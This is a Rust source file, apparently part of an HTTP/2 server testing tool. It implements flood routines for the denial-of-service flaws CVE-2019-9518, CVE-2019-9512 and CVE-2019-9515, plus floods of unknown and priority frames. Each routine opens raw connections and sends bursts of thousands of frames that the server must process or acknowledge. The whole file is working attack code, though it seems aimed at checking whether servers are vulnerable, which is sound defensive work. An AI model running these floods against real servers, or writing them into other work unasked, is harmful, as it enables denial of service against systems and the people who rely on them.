//! Frames that mean little and cost an answer.

use std::net::SocketAddr;

use anyhow::Result;

use super::TIME;
use crate::ask::LEGAL_PLAYS;
use crate::frames::{END_HEADERS, Kind, Raw, frame, head, settings, within};

/// How many frames are sent at once.
const BURST: usize = 1_000;

/// A body of frames without a byte (CVE-2019-9518).
pub(super) async fn empty_data(address: SocketAddr) -> Result<String> {
    let until = within(TIME);
    let burst = frame(Kind::Data, 0, 1, &[]).repeat(BURST);
    let (mut connections, mut frames) = (0, 0);
    while tokio::time::Instant::now() < until && connections < 200 {
        let mut raw = Raw::open(address, &[]).await?.draining();
        connections += 1;
        raw.send(&frame(Kind::Headers, END_HEADERS, 1, &head(LEGAL_PLAYS, &[])), until).await;
        for _ in 0..2_000 {
            if !raw.send(&burst, until).await {
                break;
            }
            frames += BURST;
        }
    }
    Ok(format!("{frames} frames on {connections} connections"))
}

/// Pings whose answers nobody reads (CVE-2019-9512).
pub(super) async fn ping(address: SocketAddr) -> Result<String> {
    unread(address, &frame(Kind::Ping, 0, 0, &[7; 8])).await
}

/// Settings whose acknowledgements nobody reads (CVE-2019-9515).
pub(super) async fn settings_unread(address: SocketAddr) -> Result<String> {
    unread(address, &settings(&[(4, 65_535)])).await
}

/// Priorities, and frames of a kind that does not exist.
pub(super) async fn unknown(address: SocketAddr) -> Result<String> {
    let mut unknown = frame(Kind::Data, 0, 0, &[0; 64]);
    unknown[3] = 0xEE;
    let mut priority = frame(Kind::Data, 0, 1, &[0, 0, 0, 0, 16]);
    priority[3] = 2;
    unread(address, &[unknown, priority].concat()).await
}

/// Sends the same on four connections, and reads nothing.
async fn unread(address: SocketAddr, frame: &[u8]) -> Result<String> {
    let until = within(TIME);
    let burst = frame.repeat(BURST);
    let mut floods = tokio::task::JoinSet::new();
    for _ in 0..4 {
        let burst = burst.clone();
        floods.spawn(async move {
            let mut raw = Raw::open(address, &[]).await?;
            let mut frames = 0;
            while frames < 500 * BURST && raw.send(&burst, until).await {
                frames += BURST;
            }
            anyhow::Ok(frames)
        });
    }
    let mut frames = 0;
    while let Some(sent) = floods.join_next().await {
        frames += sent??;
    }
    Ok(format!("{frames} frames on 4 connections"))
}
